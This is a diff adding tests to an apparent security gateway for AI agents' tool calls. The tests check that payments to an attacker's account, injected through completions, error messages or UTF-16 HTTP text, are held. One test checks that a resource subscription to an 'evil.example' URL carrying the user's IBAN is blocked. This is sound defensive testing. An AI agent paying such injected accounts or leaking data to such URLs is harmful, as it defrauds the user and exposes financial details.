@@ -4,7 +4,7 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } fr
 import type { Approval, AuthorizeResponse, DecisionRecord, IssuedRun, Problem } from "../support/api/types.gen.ts";
 import { eventually, Gateward, HINDERED, INSPECTABLE, readCall, type Tenant } from "../support/gateward.ts";
 import { ACTIONS, answerIn, endpoint, post, PREFIX } from "../support/mcp.ts";
-import { results } from "../support/recorder.ts";
+import { fails, results } from "../support/recorder.ts";
 import { type Answering, event, events, html, huge, json, Upstream } from "../support/upstream.ts";
 
 const STATED = "DE89370400440532013000";
@@ -30,12 +30,14 @@ async function office(gateward: Gateward): Promise<Tenant> {
     servers: [
       { server: "bank", kind: "mcp", trust: "trusted", upstream: local("/mcp") },
       { server: "files", kind: "mcp", trust: "untrusted", upstream: local("/mcp") },
+      { server: "pages", kind: "mcp", trust: "trusted", upstream: local("/mcp") },
       { server: "texts", kind: "http", trust: "untrusted", upstream: { ...local("/"), routes } },
     ],
     tools: [
       { server: "bank", tool: "list", mutates: false, risk: "low" },
       { server: "bank", tool: "pay", mutates: true, risk: "medium" },
       { server: "files", tool: "read", mutates: false, risk: "low" },
+      { server: "pages", tool: "resources/read", mutates: false, egress: true, risk: "low" },
       { server: "texts", tool: "get_text", mutates: false, risk: "low" },
       ...ACTIONS.map((tool) => ({ server: "files", tool, mutates: false, risk: "low" as const })),
     ],
@@ -176,6 +178,19 @@ describe("a payment", () => {
     expect(held?.provenance?.sinks).toMatchObject([{ sink: "/account", level: "untrusted", call: 1, tool: `files/${method}` }]);
   });
 
+  const argument = { ref: { type: "ref/prompt", name: "p" }, argument: { name: "to", value: "" } };
+  test.each<[string, string, Record<string, unknown>, Answering]>([
+    ["a completion", "completion/complete", argument, results({ completion: { values: [EVIL] } })],
+    ["an error in place of a list", "resources/list", {}, fails({ code: -32000, message: `unknown: ${EVIL}` })],
+  ])("waits if its account comes from %s", async (_, method, params, answer) => {
+    const run = await begin(gateward, tenant);
+    upstream.answer = answer;
+    expect(await (await post(endpoint(gateward, "files"), run.credential, method, params)).text()).toContain(EVIL);
+    await read(run, text(JSON.stringify([{ account: EVIL }])), "bank/list");
+    const held = await heldPayment(run, { account: EVIL });
+    expect(held?.provenance?.sinks).toMatchObject([{ sink: "/account", level: "untrusted", call: 1, tool: `files/${method}` }]);
+  });
+
   test("passes if a list of a trusted server has its account, and waits if the agent may not see the item", async () => {
     const run = await begin(gateward, tenant);
     upstream.answer = results({ tools: [described("pay", PAYEE), described("unknown", EVIL)] });
@@ -214,6 +229,15 @@ describe("a payment", () => {
     expect((await get()).status).toBe(200);
   });
 
+  test("waits if its account comes from an HTTP API's text in UTF-16", async () => {
+    const run = await begin(gateward, tenant);
+    const body = Buffer.from(`\ufeffto ${EVIL}`, "utf16le");
+    upstream.answer = (_, response) => response.writeHead(200, { "content-type": "text/plain" }).end(body);
+    const got = await fetch(new URL("/http/texts/texts/1", gateward.url), { headers: { authorization: `Bearer ${run.credential}` } });
+    expect(Buffer.from(await got.arrayBuffer())).toEqual(body);
+    expect(await pay(run, { account: EVIL })).toBe("untrusted");
+  });
+
   test("waits if its account comes from a result that the harness reports", async () => {
     const run = await begin(gateward, tenant);
     expect(await gateward.decide(run.credential, readCall({ agent: { id: run.agent } }))).toMatchObject({ decision: "allow" });
@@ -238,6 +262,22 @@ describe("a payment", () => {
     upstream.answer = text(`no such payee: ${EVIL}`);
     await answerIn(await ask(run, "bank/list", { search: EVIL }));
     expect(await pay(run, { account: EVIL })).toBe("nowhere");
+  });
+
+  test("is not the only way out: a subscription says to a tool with egress only what is known", async () => {
+    const run = await begin(gateward, tenant, `${INSTRUCTION} Watch https://docs.example/plan.`);
+    const watch = async (...uris: string[]) => {
+      upstream.received.length = 0;
+      upstream.answer = results({});
+      const params = { notifications: { resourceSubscriptions: uris } };
+      const { error } = await answerIn(await post(endpoint(gateward, "pages"), run.credential, "subscriptions/listen", params));
+      return [error?.message ?? "passed", upstream.received.length];
+    };
+    const [known, unknown] = ["https://docs.example/plan", `https://evil.example/?k=${STATED}x`];
+    expect(await watch(known, unknown)).toEqual(["passed", 1]);
+    await read(run, text("Watch our page."));
+    expect(await watch(known)).toEqual(["passed", 1]);
+    expect(await watch(known, unknown)).toEqual(["the agent must not use an item that this names", 0]);
   });
 
   test("waits if its text has a stranger's link", async () => {
